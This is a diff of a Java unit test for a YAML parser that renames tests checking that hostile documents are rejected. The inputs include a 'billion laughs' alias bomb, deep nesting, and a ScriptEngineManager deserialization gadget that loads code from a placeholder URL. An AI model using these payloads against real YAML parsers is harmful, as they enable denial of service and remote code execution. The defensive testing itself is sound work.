@@ -30,33 +30,33 @@ class YamlDocumentsTest {
         assertThat(documents.getLast()).hasToString("[\"0123\"]");
     }
 
-    /** Ten lines that stand for a billion values, a tower of brackets, a type that would be made into an object. */
+    /** Ten lines that expand to a billion values, deeply nested brackets, a tag that would create an object. */
     @Test
-    void isNotTakenInByHostileOnes() {
+    void rejectsHostileDocuments() {
         StringBuilder laughs = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
         for (int i = 1; i < 10; i++) {
             laughs.append("a%d: &a%d [%s]\n"
                     .formatted(i, i, String.join(", ", java.util.Collections.nCopies(10, "*a" + (i - 1)))));
         }
-        refused(laughs.toString(), "more than");
-        refused("[".repeat(5_000), "deeper");
-        refused("a: &a [*a]", "alias of nothing");
-        refused("a: 1\na: 2", "twice");
-        refused("? [a]\n: 1", "no text");
-        refused("a: {", "no YAML");
-        refused("root:x:0:0:root", "mere text");
-        refused("a: \u0007", "no YAML");
-        refused("x, ".repeat(0) + "- y\n".repeat(200_001), "more than");
+        assertRejected(laughs.toString(), "more than");
+        assertRejected("[".repeat(5_000), "deeper");
+        assertRejected("a: &a [*a]", "alias without an anchor");
+        assertRejected("a: 1\na: 2", "duplicate key");
+        assertRejected("? [a]\n: 1", "not text");
+        assertRejected("a: {", "not YAML");
+        assertRejected("root:x:0:0:root", "plain text");
+        assertRejected("a: \u0007", "not YAML");
+        assertRejected("x, ".repeat(0) + "- y\n".repeat(200_001), "more than");
     }
 
     @Test
-    void makesNoObjectOfAType() throws IOException {
+    void createsNoObjectOfTag() throws IOException {
         assertThat(parse("!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://203.0.113.9/\"]]"))
                 .singleElement()
                 .hasToString("[[\"http://203.0.113.9/\"]]");
     }
 
-    private static void refused(String yaml, String why) {
+    private static void assertRejected(String yaml, String why) {
         assertThatThrownBy(() -> parse(yaml)).isInstanceOf(IOException.class).hasMessageContaining(why);
     }
 
